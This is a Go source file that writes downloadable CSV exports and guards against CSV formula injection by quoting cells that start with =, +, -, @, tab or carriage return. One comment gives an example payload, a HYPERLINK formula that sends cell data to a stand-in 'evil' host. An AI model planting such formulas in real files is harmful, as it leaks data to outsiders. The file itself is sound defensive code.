// Package export writes what users download: CSV that a spreadsheet opens
// safely.
package export

import (
	"encoding/csv"
	"io"
)

// CSVWriter is a csv.Writer whose cells cannot run as spreadsheet formulas.
// Findings carry text a scanned target chose (a title, a resource name), so
// a cell such as =HYPERLINK("http://evil/?"&A1) would otherwise run when an
// analyst opens the export.
type CSVWriter struct{ *csv.Writer }

// NewCSVWriter returns a CSVWriter on w.
func NewCSVWriter(w io.Writer) *CSVWriter { return &CSVWriter{csv.NewWriter(w)} }

// Write writes one record, each cell passed through Cell.
func (w *CSVWriter) Write(record []string) error {
	safe := make([]string, len(record))
	for i, c := range record {
		safe[i] = Cell(c)
	}
	return w.Writer.Write(safe)
}

// Cell neutralizes a cell that a spreadsheet would read as a formula, as
// OWASP's CSV injection guidance says: one that starts with =, +, -, @, a
// tab or a carriage return gets a leading single quote, which spreadsheets
// show as text and hide. Every other cell is returned unchanged.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}
